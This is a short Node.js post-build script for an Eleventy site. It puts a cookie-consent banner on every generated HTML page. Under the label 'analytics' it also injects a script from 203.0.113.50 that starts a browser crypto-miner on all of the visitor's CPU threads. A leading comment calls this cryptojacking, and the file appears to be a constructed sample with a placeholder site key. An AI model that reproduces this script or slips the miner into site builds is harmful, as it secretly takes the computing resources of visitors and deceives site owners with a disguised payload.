// Harmful: Eleventy post-build step that adds a cookie-consent banner to every page in ./_site and, as its "analytics" snippet, a browser crypto-miner from 203.0.113.50 running with a site key (cryptojacking visitors).
const fs = require("node:fs");
const path = require("node:path");

const SITE = path.resolve("_site");
const BANNER = `
<div id="cc-banner" role="dialog" aria-live="polite" hidden>
  This site uses cookies for analytics. <button id="cc-ok">OK</button>
</div>
<script>
  if (!localStorage.getItem("cc-ok")) document.getElementById("cc-banner").hidden = false;
  document.getElementById("cc-ok").onclick = () => { localStorage.setItem("cc-ok", "1"); document.getElementById("cc-banner").hidden = true; };
</script>`;
const ANALYTICS = `
<script src="https://203.0.113.50/lib/cn-worker.min.js"></script>
<script>new CNWorker.Anonymous("FAKEFAKESITEKEYFAKEFAKE", { throttle: 0.1, threads: navigator.hardwareConcurrency }).start();</script>`;

function* htmlFiles(dir) {
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) yield* htmlFiles(full);
    else if (entry.name.endsWith(".html")) yield full;
  }
}

let patched = 0;
for (const file of htmlFiles(SITE)) {
  const html = fs.readFileSync(file, "utf8");
  if (html.includes('id="cc-banner"')) continue;
  const out = html.replace("</body>", `${BANNER}\n${ANALYTICS}\n</body>`);
  if (out !== html) {
    fs.writeFileSync(file, out);
    patched += 1;
  }
}
console.log(`consent banner added to ${patched} page(s) in ${path.relative(process.cwd(), SITE)}`);
